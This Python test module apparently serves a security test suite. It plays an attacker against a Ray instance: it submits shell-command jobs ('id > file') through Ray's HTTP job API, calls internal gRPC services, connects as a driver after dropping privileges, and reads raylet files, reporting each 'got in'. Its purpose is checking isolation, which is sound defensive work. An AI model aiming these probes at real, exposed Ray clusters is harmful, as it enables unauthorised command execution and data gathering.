"""Attacks of another user of the machine, or of another host, on the ports of a Ray instance; run as a process of its own.

`python -m tests.ray.attacker '{"ports": [["127.0.0.1", 8265]], "drivers": [], "paths": ["/tmp/…/raylet"], "loot": "/tmp/…"}'`

Prints a list of `[attack, target, outcome]`. Outcomes that begin with "got in" are successes of the attacker.
"""

import json
import os
import sys
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from pathlib import Path

import grpc  # type: ignore[import-untyped]
import ray

GOT_IN = "got in"
SECONDS = 3.0
"""Patience with one port."""

_JOB_SERVERS = ("/api/job_agent/jobs/", "/api/jobs/")
_METHODS = (
    "NodeInfoGcsService/GetAllNodeInfo",
    "InternalKVGcsService/InternalKVKeys",
    "NodeManagerService/GetNodeStats",
    "CoreWorkerService/GetCoreWorkerStats",
    "LogService/ListLogs",
    "ReporterService/GetTraceback",
    "RayletDriver/Init",
    "RayletDriver/ClusterInfo",
)
"""Methods of Ray's servers (GCS, raylet, workers, the dashboard's agent, the client server); none changes anything."""
_NO_ENTRY = (grpc.StatusCode.UNAUTHENTICATED, grpc.StatusCode.UNAVAILABLE, grpc.StatusCode.UNIMPLEMENTED)
"""Token missing; no such port, or no gRPC; another service."""


def attack(host: str, port: int, loot: Path) -> Iterator[tuple[str, str, str]]:
    """Tries every protocol of Ray at one port."""
    where = f"{host}:{port}"
    for path in _JOB_SERVERS:
        yield "job by HTTP", f"{where}{path}", _submit(f"http://{where}{path}", loot / f"{port}")
    for method in _METHODS:
        outcome = _call(where, method)
        yield "gRPC", f"{where}/{method}", outcome
        if outcome in ("UNAVAILABLE", "DEADLINE_EXCEEDED"):
            return


def _submit(url: str, proof: Path) -> str:
    """Submits a job that writes a file."""
    body = json.dumps({"entrypoint": f"id > {proof}"}).encode()
    request = urllib.request.Request(url, body, {"Content-Type": "application/json"})
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    try:
        with opener.open(request, timeout=SECONDS) as answer:
            return f"{GOT_IN}: {answer.status} {answer.read(200)!r}"
    except urllib.error.HTTPError as error:
        return f"HTTP {error.code}"
    except Exception as error:  # No HTTP, or nothing at all.
        return type(error).__name__


def _call(where: str, method: str) -> str:
    """Calls a method with an empty message."""
    with grpc.insecure_channel(where, options=[("grpc.enable_http_proxy", 0)]) as channel:
        call: Callable[..., bytes] = channel.unary_unary(f"/ray.rpc.{method}")
        try:
            return f"{GOT_IN}: {call(b'', timeout=SECONDS)!r:.200}"
        except grpc.RpcError as error:
            # A port that speaks something else may answer until the deadline.
            known = (*_NO_ENTRY, grpc.StatusCode.DEADLINE_EXCEEDED)
            return error.code().name if error.code() in known else f"{GOT_IN}: {error.code().name} {error.details()}"


def connect(host: str, port: int) -> str:
    """Connects as a driver to a port that may be the GCS's."""
    try:
        ray.init(address=f"{host}:{port}", log_to_driver=False, logging_level="ERROR")
    except Exception as error:
        return f"{type(error).__name__}: {error}"[:300]
    found = f"{GOT_IN}: {ray.nodes()}"
    ray.shutdown()
    return found


def look(path: Path) -> str:
    """Reads a file, and looks into the folder of a socket."""
    try:
        return f"{GOT_IN}: {path.read_text()}" if path.is_file() else f"{GOT_IN}: {os.listdir(path.parent)}"
    except PermissionError:
        return "PermissionError"


def main(plan: dict[str, object]) -> None:
    """Connects as a driver, gives up root, attacks, prints."""
    # Ray and gRPC load modules when they are first used, which a user without rights may not be able to read.
    list(attack("127.0.0.1", 1, Path("/")))
    outcomes = [("driver", f"{host}:{port}", connect(host, port)) for host, port in plan["drivers"]]  # type: ignore[attr-defined]
    ports = [(str(host), int(port)) for host, port in plan["ports"]]  # type: ignore[attr-defined]
    loot = Path(str(plan["loot"]))
    os.setgroups([])
    os.setresgid(65534, 65534, 65534)
    os.setresuid(65534, 65534, 65534)
    outcomes += [("look", str(path), look(Path(str(path)))) for path in plan["paths"]]  # type: ignore[attr-defined]
    for host, port in ports:
        outcomes += attack(host, port, loot)
    time.sleep(SECONDS)
    outcomes += [("job by HTTP", path.name, f"{GOT_IN}: {path.read_text()}") for path in loot.iterdir()]
    json.dump(outcomes, sys.stdout)
    sys.stdout.flush()
    os._exit(0)


if __name__ == "__main__":
    main(json.loads(sys.argv[1]))
